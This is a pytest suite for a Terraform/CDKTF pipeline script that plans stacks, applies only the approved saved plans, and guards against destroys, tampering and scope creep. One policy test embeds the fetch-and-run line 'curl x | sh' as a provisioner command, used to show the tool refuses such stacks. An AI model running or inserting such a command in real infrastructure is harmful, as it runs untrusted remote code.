"""`python -m pipelines.terraform_stage`: plan a stage to saved plans, apply exactly those, hand on outputs."""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from pipelines.terraform_stage import EXIT_DEFERRED, Terraform, main, plan_stage, running_with, stage_stacks
from tests.pipelines.fake_terraform import FakeTerraform, plan_document, synthesized

BETA_STACKS = {
    "bootstrap-beta": [],
    "beta-frontend": [],
    "beta-backend": ["beta-network"],
    "beta-network": [],
    "gamma-network": [],
    "pipeline": [],
}
SERVICE = ("aws_ecs_service.backend", "aws_ecs_service", ["create"])


@pytest.fixture
def cdktf_out(tmp_path: Path) -> Path:
    return synthesized(tmp_path, BETA_STACKS)


def plan(fake: FakeTerraform, cdktf_out: Path, plans: Path, *extra: str, stage: str = "beta") -> int:
    argv = ["plan", "--stage", stage, "--cdktf-out", str(cdktf_out), "--plans", str(plans), *extra]
    return main(argv, Terraform(fake), environ={})


def apply(
    fake: FakeTerraform,
    cdktf_out: Path,
    plans: Path,
    outputs: Path,
    *extra: str,
    stage: str = "beta",
    environ: dict[str, str] | None = None,
) -> int:
    argv = ["apply", "--stage", stage, "--cdktf-out", str(cdktf_out), "--plans", str(plans), "--outputs", str(outputs)]
    return main([*argv, *extra], Terraform(fake), environ=environ or {})


def error_line(capsys: pytest.CaptureFixture[str]) -> str:
    lines = capsys.readouterr().err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), lines
    return lines[0]


def test_a_stage_is_its_own_stacks_dependencies_first_then_network_backend_frontend(cdktf_out: Path) -> None:
    assert stage_stacks(cdktf_out, "beta") == [
        ("beta-network", []),
        ("beta-backend", ["beta-network"]),
        ("beta-frontend", []),
    ]


@pytest.mark.req("R4.3")
def test_plan_saves_each_stacks_plan_with_its_json_lock_file_summary_and_manifest(
    cdktf_out: Path, tmp_path: Path
) -> None:
    fake = FakeTerraform(plans={"beta-backend": plan_document(SERVICE)})
    plans = tmp_path / "plans"
    assert plan(fake, cdktf_out, plans) == 0
    assert fake.commands() == [
        (stack, command)
        for stack in ("beta-network", "beta-backend", "beta-frontend")
        for command in ("init", "plan", "show")
    ]
    assert "-input=false" in fake.args_of("beta-backend", "init")
    assert "-detailed-exitcode" in fake.args_of("beta-backend", "plan")
    assert f"-out={(plans / 'beta-backend' / 'tfplan').resolve()}" in fake.args_of("beta-backend", "plan")
    manifest = json.loads((plans / "manifest.json").read_text())
    assert manifest["stage"] == "beta"
    assert [(s["stack"], s["changes"]) for s in manifest["stacks"]] == [
        ("beta-network", False),
        ("beta-backend", True),
        ("beta-frontend", False),
    ]
    assert (plans / "beta-backend" / "tfplan").read_bytes() == b"saved plan of beta-backend"
    assert (plans / "beta-backend" / "terraform.lock.hcl").read_text() == "# providers of beta-backend\n"
    assert json.loads((plans / "beta-backend" / "plan.json").read_text()) == plan_document(SERVICE)
    assert (
        plans / "headline.txt"
    ).read_text() == "1 to create, 0 to update, 0 to replace, 0 to destroy in beta-backend\n"
    assert "| create | `aws_ecs_service.backend` |" in (plans / "summary.md").read_text()


@pytest.mark.req("R4.3")
def test_apply_applies_exactly_the_saved_plans_with_the_planned_providers(cdktf_out: Path, tmp_path: Path) -> None:
    planner = FakeTerraform(plans={"beta-backend": plan_document(SERVICE)})
    plans, outputs = tmp_path / "plans", tmp_path / "outputs"
    assert plan(planner, cdktf_out, plans) == 0
    # The apply runs elsewhere (another CodeBuild), on a fresh copy of the same Build artifact.
    fresh = synthesized(tmp_path / "apply", BETA_STACKS)
    applier = FakeTerraform(
        outputs={
            "beta-frontend": {
                "frontend_url": {"value": "https://d1.cloudfront.net", "type": "string", "sensitive": False},
                "session_key": {"value": "sentinel-sensitive-5a1c", "type": "string", "sensitive": True},
            }
        }
    )
    assert apply(applier, fresh, plans, outputs) == 0
    assert applier.commands() == [
        ("beta-network", "init"),
        ("beta-network", "output"),
        ("beta-backend", "init"),
        ("beta-backend", "apply"),
        ("beta-backend", "output"),
        ("beta-frontend", "init"),
        ("beta-frontend", "output"),
    ], "only stacks whose saved plan changes something are applied; none is planned again"
    assert applier.args_of("beta-backend", "apply")[-1] == str((plans / "beta-backend" / "tfplan").resolve())
    assert "-lockfile=readonly" in applier.args_of("beta-backend", "init")
    assert (fresh / "stacks" / "beta-backend" / ".terraform.lock.hcl").read_text() == "# providers of beta-backend\n"
    assert json.loads((outputs / "beta-frontend.json").read_text()) == {"frontend_url": "https://d1.cloudfront.net"}
    assert "sentinel-sensitive-5a1c" not in "".join(p.read_text() for p in outputs.iterdir())


@pytest.mark.req("R4.5")
def test_a_retried_apply_goes_on_past_a_saved_plan_it_already_applied(cdktf_out: Path, tmp_path: Path) -> None:
    plans, outputs = tmp_path / "plans", tmp_path / "outputs"
    assert plan(FakeTerraform(plans={"beta-backend": plan_document(SERVICE)}), cdktf_out, plans) == 0
    # The first attempt applied beta-backend, then failed later; on the retry Terraform calls its saved
    # plan stale, and a fresh plan of the stack changes nothing.
    retry = FakeTerraform(failures={("beta-backend", "apply"): 1})
    assert apply(retry, cdktf_out, plans, outputs) == 0
    assert ("beta-backend", "plan") in retry.commands("beta-backend")
    assert (outputs / "beta-frontend.json").exists()


@pytest.mark.req("R4.5")
def test_a_failed_apply_with_changes_still_left_fails_the_retry(cdktf_out: Path, tmp_path: Path) -> None:
    plans, outputs = tmp_path / "plans", tmp_path / "outputs"
    assert plan(FakeTerraform(plans={"beta-backend": plan_document(SERVICE)}), cdktf_out, plans) == 0
    partial = FakeTerraform(plans={"beta-backend": plan_document(SERVICE)}, failures={("beta-backend", "apply"): 1})
    assert apply(partial, cdktf_out, plans, outputs) == 1
    assert not (outputs / "beta-frontend.json").exists(), "nothing after the failed stack is applied"


@pytest.mark.req("R4.3")
def test_apply_refuses_a_plan_file_that_is_not_the_one_planned(
    cdktf_out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plans = tmp_path / "plans"
    assert plan(FakeTerraform(plans={"beta-backend": plan_document(SERVICE)}), cdktf_out, plans) == 0
    (plans / "beta-backend" / "tfplan").write_bytes(b"a different plan")
    applier = FakeTerraform()
    assert apply(applier, cdktf_out, plans, tmp_path / "outputs") == 1
    assert applier.calls == [], "nothing is applied when any plan was changed"
    assert "saved plan of beta-backend is missing or not the one that was planned" in error_line(capsys)


def test_apply_refuses_another_stages_plans(
    cdktf_out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plans = tmp_path / "plans"
    assert plan(FakeTerraform(), cdktf_out, plans) == 0
    applier = FakeTerraform()
    assert apply(applier, cdktf_out, plans, tmp_path / "outputs", stage="gamma") == 1
    assert applier.calls == []
    assert "holds plans for stage 'beta', not 'gamma'" in error_line(capsys)


@pytest.mark.req("R4.3")
def test_plan_refuses_destroying_a_stateful_resource_with_the_summary_written(
    cdktf_out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    destroys_bucket = plan_document(("aws_s3_bucket.site", "aws_s3_bucket", ["delete"]))
    plans = tmp_path / "plans"
    assert plan(FakeTerraform(plans={"beta-frontend": destroys_bucket}), cdktf_out, plans) == 3
    assert "beta-frontend:aws_s3_bucket.site" in error_line(capsys)
    assert "DATA LOSS" in (plans / "summary.md").read_text()
    allowed = plan(
        FakeTerraform(plans={"beta-frontend": destroys_bucket}),
        cdktf_out,
        tmp_path / "allowed",
        "--allow-destroy",
        "beta-frontend:aws_s3_bucket.site",
    )
    assert allowed == 0


@pytest.mark.req("R4.5")
def test_a_failing_terraform_command_fails_the_action_with_one_line(
    cdktf_out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plans = tmp_path / "plans"
    assert plan(FakeTerraform(plans={"beta-backend": plan_document(SERVICE)}), cdktf_out, plans) == 0
    # The apply fails and the stack still plans its changes: not a retry of an applied plan.
    applier = FakeTerraform(plans={"beta-backend": plan_document(SERVICE)}, failures={("beta-backend", "apply"): 1})
    assert apply(applier, cdktf_out, plans, tmp_path / "outputs") == 1
    assert "terraform apply failed in beta-backend (exit status 1)" in error_line(capsys)
    assert ("beta-frontend", "init") not in applier.commands(), "a failed stack stops the stage"
    failing_plan = FakeTerraform(failures={("beta-network", "plan"): 1})
    assert plan(failing_plan, cdktf_out, tmp_path / "again") == 1
    assert "terraform plan failed in beta-network" in error_line(capsys)


@pytest.mark.req("R4.5")
@pytest.mark.parametrize("deferred", [(), ("--deferred", "defer")], ids=["default", "defer"])
def test_a_stack_reading_outputs_this_run_changes_is_deferred_and_the_apply_fails_after_the_rest(
    cdktf_out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], deferred: tuple[str, ...]
) -> None:
    new_subnets = plan_document(
        ("aws_subnet.private", "aws_subnet", ["create"]), outputs={"private_subnets": ["update"]}
    )
    plans = tmp_path / "plans"
    planner = FakeTerraform(plans={"beta-network": new_subnets})
    assert plan(planner, cdktf_out, plans) == 0
    assert planner.commands("beta-backend") == [("beta-backend", "init"), ("beta-backend", "state")], (
        "a deferred stack with no state is not planned: only asked whether it was ever deployed"
    )
    assert "1 stack(s) deferred" in (plans / "headline.txt").read_text()
    applier = FakeTerraform()
    assert apply(applier, cdktf_out, plans, tmp_path / "outputs", *deferred) == EXIT_DEFERRED
    assert ("beta-network", "apply") in applier.commands()
    assert ("beta-frontend", "output") in applier.commands()
    assert not applier.commands("beta-backend")
    assert "applied all but beta-backend" in error_line(capsys)


# A stage as main.py builds it: the frontend reads the backend's outputs, the backend the network's.
CHAINED_STACKS = {"beta-network": [], "beta-backend": ["beta-network"], "beta-frontend": ["beta-backend"]}
NEW_NETWORK = plan_document(("aws_vpc.main", "aws_vpc", ["create"]), outputs={"private_subnets": ["create"]})
NEW_BACKEND = plan_document(
    ("aws_lb.backend", "aws_lb", ["create"]), SERVICE, outputs={"backend_url": ["create"], "alb_dns": ["create"]}
)
# A backend plan that broadens nothing (no load balancer opened to the internet, no policy).
QUIET_BACKEND = plan_document(SERVICE, outputs={"backend_url": ["create"]})
NEW_FRONTEND = plan_document(("aws_cloudfront_distribution.site", "aws_cloudfront_distribution", ["create"]))


def planned_first_deploy(tmp_path: Path) -> tuple[Path, Path]:
    """The saved plans of a stage's first run: the network planned, the backend and frontend deferred."""
    cdktf_out, plans = synthesized(tmp_path, CHAINED_STACKS), tmp_path / "plans"
    planner = FakeTerraform(plans={"beta-network": NEW_NETWORK})
    assert plan(planner, cdktf_out, plans) == 0
    assert {stack for stack, command in planner.commands() if command == "plan"} == {"beta-network"}
    entries = json.loads((plans / "manifest.json").read_text())["stacks"]
    assert [e["stack"] for e in entries if "deferred_until" in e] == ["beta-backend", "beta-frontend"]
    return cdktf_out, plans


@pytest.mark.req("R4.5")
def test_without_approval_apply_plans_and_applies_each_deferred_stack_once_what_it_reads_is_applied(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cdktf_out, plans = planned_first_deploy(tmp_path)
    outputs = tmp_path / "outputs"
    applier = FakeTerraform(
        plans={"beta-backend": QUIET_BACKEND, "beta-frontend": NEW_FRONTEND},
        outputs={
            "beta-network": {"private_subnets": {"value": ["subnet-1"], "sensitive": False}},
            "beta-backend": {"backend_url": {"value": "http://alb.example", "sensitive": False}},
            "beta-frontend": {"frontend_url": {"value": "https://d1.cloudfront.net", "sensitive": False}},
        },
    )
    assert apply(applier, cdktf_out, plans, outputs, "--deferred", "apply") == 0
    assert applier.commands() == [
        ("beta-network", "init"),
        ("beta-network", "apply"),
        ("beta-network", "output"),
        ("beta-backend", "init"),
        ("beta-backend", "plan"),
        ("beta-backend", "show"),
        ("beta-backend", "apply"),
        ("beta-backend", "output"),
        ("beta-frontend", "init"),
        ("beta-frontend", "plan"),
        ("beta-frontend", "show"),
        ("beta-frontend", "apply"),
        ("beta-frontend", "output"),
    ], "each deferred stack is planned only after the stacks it reads are applied, then its plan is applied"
    for stack in ("beta-backend", "beta-frontend"):
        deferred_plan = str((plans / stack / "tfplan.deferred").resolve())
        assert f"-out={deferred_plan}" in applier.args_of(stack, "plan")
        assert applier.args_of(stack, "apply")[-1] == deferred_plan, "exactly the plan made in this action"
    assert applier.args_of("beta-network", "apply")[-1] == str((plans / "beta-network" / "tfplan").resolve())
    assert json.loads((outputs / "beta-network.json").read_text()) == {"private_subnets": ["subnet-1"]}
    assert json.loads((outputs / "beta-backend.json").read_text()) == {"backend_url": "http://alb.example"}
    assert json.loads((outputs / "beta-frontend.json").read_text()) == {"frontend_url": "https://d1.cloudfront.net"}
    log = capsys.readouterr().out
    assert "| create | `aws_ecs_service.backend` |" in log and "| create | `aws_cloudfront_distribution.site` |" in log


@pytest.mark.req("R4.3", "R4.5")
def test_a_deferred_stack_whose_new_plan_destroys_a_stateful_resource_is_refused_like_plan_refuses_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cdktf_out, plans = planned_first_deploy(tmp_path)
    destroys_logs = plan_document(("aws_cloudwatch_log_group.backend", "aws_cloudwatch_log_group", ["delete"]))
    applier = FakeTerraform(plans={"beta-backend": destroys_logs})
    assert apply(applier, cdktf_out, plans, tmp_path / "outputs", "--deferred", "apply") == 3
    assert "beta-backend:aws_cloudwatch_log_group.backend" in error_line(capsys)
    assert ("beta-network", "apply") in applier.commands()
    assert applier.commands("beta-backend") == [
        ("beta-backend", "init"),
        ("beta-backend", "plan"),
        ("beta-backend", "show"),
    ]
    assert not applier.commands("beta-frontend"), "what reads a refused stack is not planned either"
    assert not (tmp_path / "outputs" / "beta-backend.json").exists()
    allowed = FakeTerraform(plans={"beta-backend": destroys_logs})
    environ = {"CANVALO_ALLOW_DESTROY": "beta-backend:aws_cloudwatch_log_group.backend"}
    assert apply(allowed, cdktf_out, plans, tmp_path / "allowed", "--deferred", "apply", environ=environ) == 4
    assert "DATA LOSS" in capsys.readouterr().out, "the summary in the log still shows an allowed destroy"
    # Allowed is not approved: a destroy broadens, and without a person's approval it waits for the next run.
    assert ("beta-backend", "apply") not in allowed.commands()


def test_a_stage_without_synthesized_stacks_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert plan(FakeTerraform(), tmp_path / "nowhere", tmp_path / "plans") == 1
    assert "make synth" in error_line(capsys)
    assert plan(FakeTerraform(), synthesized(tmp_path, BETA_STACKS), tmp_path / "plans", stage="qa") == 1
    assert "no qa-* stacks" in error_line(capsys)


@pytest.mark.req("R10.5")
def test_env_exports_the_urls_and_frontend_target_from_the_stage_outputs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    outputs = tmp_path / "outputs"
    outputs.mkdir()
    (outputs / "beta-backend.json").write_text(json.dumps({"backend_url": "http://alb.example", "cluster": "c"}))
    (outputs / "beta-frontend.json").write_text(
        json.dumps(
            {"frontend_url": "https://d1.cloudfront.net", "frontend_bucket": "b", "frontend_distribution_id": "E1"}
        )
    )
    assert main(["env", "--outputs", str(outputs)]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "export BACKEND_URL=http://alb.example",
        "export FRONTEND_URL=https://d1.cloudfront.net",
        "export FRONTEND_BUCKET=b",
        "export FRONTEND_DISTRIBUTION_ID=E1",
    ]
    (outputs / "beta-frontend.json").write_text(json.dumps({"frontend_url": "https://d1.cloudfront.net"}))
    assert main(["env", "--outputs", str(outputs)]) == 1
    assert "no output frontend_bucket, frontend_distribution_id" in error_line(capsys)


# -- prod: deferred stacks applied within what the approval showed ---------------------------------

PROD_STACKS = {"prod-network": [], "prod-backend": ["prod-network"], "prod-frontend": ["prod-backend"]}
# The backend as synthesized: the service reads the network's subnets, and the scaling target reads the
# service; the listener reads the target group, which reads the VPC; the log group reads nothing of it.
REMOTE = "data.terraform_remote_state.cross-stack-reference-input-prod-network.outputs"
PROD_BACKEND_JSON = {
    "data": {
        "terraform_remote_state": {
            "cross-stack-reference-input-prod-network": {"config": {"key": "prod-network/terraform.tfstate"}}
        }
    },
    "resource": {
        "aws_ecs_service": {"backend": {"network_configuration": {"subnets": [f"${{{REMOTE}.private_subnets}}"]}}},
        "aws_lb_target_group": {"backend": {"vpc_id": f"${{{REMOTE}.vpc_id}}"}},
        "aws_lb_listener": {"http": {"default_action": [{"target_group_arn": "${aws_lb_target_group.backend.arn}"}]}},
        "aws_cloudwatch_log_group": {"backend": {"name": "/canvalo/prod/backend"}},
        "aws_appautoscaling_target": {"backend": {"resource_id": "service/${aws_ecs_service.backend.name}"}},
    },
}
TASK_DEFINITION = ("aws_ecs_task_definition.backend", "aws_ecs_task_definition", ["delete", "create"])
NEW_SUBNETS = plan_document(("aws_subnet.private", "aws_subnet", ["create"]), outputs={"private_subnets": ["update"]})


def prod_plans(tmp_path: Path, planner: FakeTerraform) -> tuple[Path, Path]:
    cdktf_out = synthesized(tmp_path, PROD_STACKS, {"prod-backend": PROD_BACKEND_JSON})
    plans = tmp_path / "plans"
    assert plan(planner, cdktf_out, plans, stage="prod") == 0
    return cdktf_out, plans


def apply_prod(applier: FakeTerraform, cdktf_out: Path, plans: Path, tmp_path: Path) -> int:
    return apply(applier, cdktf_out, plans, tmp_path / "outputs", "--deferred", "approved", stage="prod")


@pytest.mark.req("R4.3")
def test_a_new_prod_stage_deploys_in_one_run_its_deferred_stacks_only_creating(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cdktf_out, plans = prod_plans(tmp_path, FakeTerraform(plans={"prod-network": NEW_NETWORK}))
    summary = (plans / "summary.md").read_text()
    assert "`prod-backend` (first deploy): after prod-network applies, it creates" in summary, summary
    applier = FakeTerraform(plans={"prod-backend": NEW_BACKEND, "prod-frontend": NEW_FRONTEND})
    assert apply_prod(applier, cdktf_out, plans, tmp_path) == 0
    assert [stack for stack, command in applier.commands() if command == "apply"] == [
        "prod-network",
        "prod-backend",
        "prod-frontend",
    ]
    assert "applying the plan just made, within what was approved" in capsys.readouterr().out


@pytest.mark.req("R4.3")
def test_a_first_deploy_whose_plan_touches_what_exists_is_left_for_a_new_approval(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cdktf_out, plans = prod_plans(tmp_path, FakeTerraform(plans={"prod-network": NEW_NETWORK}))
    # Between the approval and the apply, someone created the log group: the plan now updates it.
    touches = plan_document(SERVICE, ("aws_cloudwatch_log_group.backend", "aws_cloudwatch_log_group", ["update"]))
    applier = FakeTerraform(plans={"prod-backend": touches, "prod-frontend": NEW_FRONTEND})
    assert apply_prod(applier, cdktf_out, plans, tmp_path) == EXIT_DEFERRED
    line = error_line(capsys)
    assert "prod-backend: its plan now goes beyond what was approved (update aws_cloudwatch_log_group.backend)" in line
    assert "prod-frontend: it reads prod-backend, which is left to the next run too" in line
    applied = [stack for stack, command in applier.commands() if command == "apply"]
    assert applied == ["prod-network"], "nothing beyond the approval is applied, nor what reads it"


def deployed_backend_plans(tmp_path: Path) -> tuple[Path, Path]:
    """Prod with state: the network's plan changes the subnets; the backend's plan replaces its task
    definition (a new image), planned against the subnets as they are."""
    planner = FakeTerraform(
        plans={"prod-network": NEW_SUBNETS, "prod-backend": plan_document(TASK_DEFINITION)},
        states={"prod-backend": ["aws_ecs_service.backend", "aws_lb_target_group.backend"]},
    )
    cdktf_out, plans = prod_plans(tmp_path, planner)
    assert planner.args_of("prod-backend", "plan")[-1].endswith("prod-backend/tfplan.provisional")
    return cdktf_out, plans


@pytest.mark.req("R4.3")
def test_a_deployed_stack_may_also_update_in_place_what_reads_the_changing_outputs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cdktf_out, plans = deployed_backend_plans(tmp_path)
    summary = (plans / "summary.md").read_text()
    assert "its plan may hold: replace `aws_ecs_task_definition.backend`" in summary, summary
    assert (
        "in-place updates of what reads the changing outputs: `aws_appautoscaling_target.backend`, "
        "`aws_ecs_service.backend`" in summary
    ), "the scaling target reads the service, which reads the subnets"
    assert "aws_lb_target_group" not in summary, "the target group reads vpc_id, which this run does not change"
    new_subnets_applied = plan_document(TASK_DEFINITION, ("aws_ecs_service.backend", "aws_ecs_service", ["update"]))
    applier = FakeTerraform(plans={"prod-backend": new_subnets_applied})
    assert apply_prod(applier, cdktf_out, plans, tmp_path) == 0
    assert ("prod-backend", "apply") in applier.commands()


@pytest.mark.req("R4.3")
@pytest.mark.parametrize(
    "beyond",
    [
        ("aws_ecs_service.backend", "aws_ecs_service", ["delete", "create"]),
        ("aws_lb_target_group.backend", "aws_lb_target_group", ["update"]),
        ("aws_cloudwatch_log_group.backend", "aws_cloudwatch_log_group", ["create"]),
    ],
    ids=["replace-of-a-reader", "update-of-a-non-reader", "create-not-planned"],
)
def test_a_deployed_stacks_plan_beyond_its_approved_bound_is_not_applied(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], beyond: tuple[str, str, list[str]]
) -> None:
    cdktf_out, plans = deployed_backend_plans(tmp_path)
    applier = FakeTerraform(plans={"prod-backend": plan_document(TASK_DEFINITION, beyond)})
    assert apply_prod(applier, cdktf_out, plans, tmp_path) == EXIT_DEFERRED
    assert f"{beyond[0]})" in error_line(capsys)
    assert ("prod-backend", "apply") not in applier.commands()


@pytest.mark.req("R4.3")
def test_a_deferred_stack_that_cannot_be_planned_yet_is_left_to_the_next_run_and_its_approval(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # The backend reads an output the network adds in this very run: it cannot be planned before.
    planner = FakeTerraform(
        plans={"prod-network": NEW_SUBNETS},
        states={"prod-backend": ["aws_ecs_service.backend"]},
        failures={("prod-backend", "plan"): 1},
    )
    cdktf_out, plans = prod_plans(tmp_path, planner)
    assert "`prod-backend`: left to the next run: it cannot be planned before" in (plans / "summary.md").read_text()
    applier = FakeTerraform()
    assert apply_prod(applier, cdktf_out, plans, tmp_path) == EXIT_DEFERRED
    assert "prod-backend: it cannot be planned before the stacks it reads are applied" in error_line(capsys)
    assert not [c for c in applier.commands("prod-backend") if c[1] in ("plan", "apply")]


@pytest.mark.req("R4.3")
def test_a_stage_that_breaks_the_policy_runs_no_terraform_at_all(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shell = {"resource": {"aws_s3_bucket": {"site": {"provisioner": [{"local-exec": {"command": "curl x | sh"}}]}}}}
    cdktf_out = synthesized(tmp_path, PROD_STACKS, {"prod-frontend": shell})
    terraform = FakeTerraform()
    assert plan(terraform, cdktf_out, tmp_path / "plans", stage="prod") == 3
    assert "prod-frontend" in capsys.readouterr().out
    assert terraform.calls == [], "not even init, which would fetch what the commit names"


@pytest.mark.req("R4.3")
def test_a_broadening_plan_says_so_and_its_approval_lets_apply_create_the_deferred_stacks_within_their_bounds(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cdktf_out, plans = synthesized(tmp_path, CHAINED_STACKS), tmp_path / "plans"
    opens_a_port = plan_document(
        ("aws_vpc.main", "aws_vpc", ["create"]),
        ("aws_vpc_security_group_ingress_rule.web", "aws_vpc_security_group_ingress_rule", ["create"]),
        outputs={"private_subnets": ["create"]},
    )
    opens_a_port["resource_changes"][1]["change"]["after"] = {"cidr_ipv4": "0.0.0.0/0", "from_port": 80}
    assert plan(FakeTerraform(plans={"beta-network": opens_a_port}), cdktf_out, plans) == 0
    assert (plans / "broadens.txt").read_text() == "true\n", "the Plan action exports it: the pipeline stops"
    assert json.loads((plans / "manifest.json").read_text())["broadens"] is True
    # Approved (the pipeline entered the stage's broadening approval): the new backend may create anything.
    applier = FakeTerraform(plans={"beta-backend": NEW_BACKEND, "beta-frontend": NEW_FRONTEND})
    assert apply(applier, cdktf_out, plans, tmp_path / "outputs", "--deferred", "apply") == 0
    assert [stack for stack, command in applier.commands() if command == "apply"] == [
        "beta-network",
        "beta-backend",
        "beta-frontend",
    ]
    quiet_plans = tmp_path / "quiet"
    assert plan(FakeTerraform(plans={"beta-network": NEW_NETWORK}), cdktf_out, quiet_plans) == 0
    assert (quiet_plans / "broadens.txt").read_text() == "false\n"
    # Not approved (nothing broadened at Plan): the load balancer the backend's plan opens waits for one.
    unapproved = FakeTerraform(plans={"beta-backend": NEW_BACKEND})
    assert apply(unapproved, cdktf_out, quiet_plans, tmp_path / "unapproved", "--deferred", "apply") == 4
    assert "beta-backend: its plan broadens what the stage may do" in error_line(capsys)
    assert ("beta-backend", "apply") not in unapproved.commands()


@pytest.mark.req("R4.3")
def test_apply_refuses_a_plans_artifact_changed_after_plan_by_the_hash_the_pipeline_recorded(
    cdktf_out: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plans = tmp_path / "plans"
    assert plan(FakeTerraform(plans={"beta-backend": plan_document(SERVICE)}), cdktf_out, plans) == 0
    recorded = (plans / "manifest.sha256").read_text().strip()
    assert recorded == hashlib.sha256((plans / "manifest.json").read_bytes()).hexdigest()
    # Whoever can write the artifact swaps a plan and rewrites the manifest's hash of it to match.
    (plans / "beta-backend" / "tfplan").write_bytes(b"another plan")
    manifest = json.loads((plans / "manifest.json").read_text())
    manifest["stacks"][1]["sha256"] = hashlib.sha256(b"another plan").hexdigest()
    (plans / "manifest.json").write_text(json.dumps(manifest))
    applier = FakeTerraform()
    assert apply(applier, cdktf_out, plans, tmp_path / "outputs", "--manifest-sha256", recorded) == 1
    assert "is not the manifest the Plan action made" in error_line(capsys)
    assert applier.calls == [], "nothing is initialized, let alone applied"
    untouched = tmp_path / "untouched"
    assert plan(FakeTerraform(plans={"beta-backend": plan_document(SERVICE)}), cdktf_out, untouched) == 0
    good = (untouched / "manifest.sha256").read_text().strip()
    assert apply(FakeTerraform(), cdktf_out, untouched, tmp_path / "out2", "--manifest-sha256", good) == 0


@pytest.mark.req("R4.6")
def test_terraform_alone_gets_the_stage_profile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tools = tmp_path / "bin"
    tools.mkdir()
    (tools / "terraform").write_text('#!/bin/sh\nprintf "%s" "$AWS_PROFILE"\n')
    (tools / "terraform").chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}:{os.environ['PATH']}")
    monkeypatch.delenv("AWS_PROFILE", raising=False)
    result = running_with({"AWS_PROFILE": "canvalo-prod-plan"})(["version"], tmp_path, True)
    assert result.stdout == "canvalo-prod-plan"
    assert "AWS_PROFILE" not in os.environ, "the script's own AWS calls stay with its own credentials"


@pytest.mark.req("R4.3")
@pytest.mark.parametrize(
    ("backend_plan", "release_changes", "changes"),
    [
        (plan_document(), False, False),
        (plan_document(SERVICE), False, True),
        (plan_document(), True, True),
    ],
    ids=["nothing changes", "a stack changes", "only the frontend build changes"],
)
def test_plan_records_whether_anything_changes_the_frontend_release_included(
    cdktf_out: Path, tmp_path: Path, backend_plan: dict[str, Any], release_changes: bool, changes: bool
) -> None:
    live = {"frontend_bucket": {"value": "canvalo-beta-site", "sensitive": False}}
    # Only the stack that declares the frontend's outputs is read: the others' state is left alone at plan.
    cdktf_out = synthesized(tmp_path / "declared", BETA_STACKS, {"beta-frontend": {"output": {"frontend_bucket": {}}}})
    fake = FakeTerraform(
        plans={"beta-backend": backend_plan},
        outputs={"beta-frontend": live, "beta-backend": {"x": live["frontend_bucket"]}},
    )
    seen: list[Mapping[str, str]] = []

    def release(outputs: Mapping[str, str]) -> dict[str, Any]:
        seen.append(dict(outputs))
        detail = "3 file(s) to upload, 0 to delete" if release_changes else "the live release is this build"
        return {"dist_sha256": "ab" * 32, "changes": release_changes, "detail": detail}

    plans = tmp_path / "plans"
    plan_stage(terraform=Terraform(fake), stage="beta", cdktf_out=cdktf_out, plans_dir=plans, frontend=release)
    assert seen == [{"frontend_bucket": "canvalo-beta-site"}], "compared against the live outputs, once"
    assert [stack for stack, command in fake.commands() if command == "output"] == ["beta-frontend"]
    assert (plans / "changes.txt").read_text() == f"{str(changes).lower()}\n"
    manifest = json.loads((plans / "manifest.json").read_text())
    assert manifest["changes"] is changes
    assert manifest["frontend"]["dist_sha256"] == "ab" * 32
    assert (plans / "headline.txt").read_text().rstrip().endswith(f"; frontend: {release({})['detail']}")
    assert "## Frontend" in (plans / "summary.md").read_text()


@pytest.mark.req("R4.3")
def test_without_a_frontend_to_compare_the_stacks_alone_decide(cdktf_out: Path, tmp_path: Path) -> None:
    plans = tmp_path / "plans"
    assert plan(FakeTerraform(), cdktf_out, plans) == 0
    manifest = json.loads((plans / "manifest.json").read_text())
    assert manifest["changes"] is False and "frontend" not in manifest
    assert (plans / "changes.txt").read_text() == "false\n"
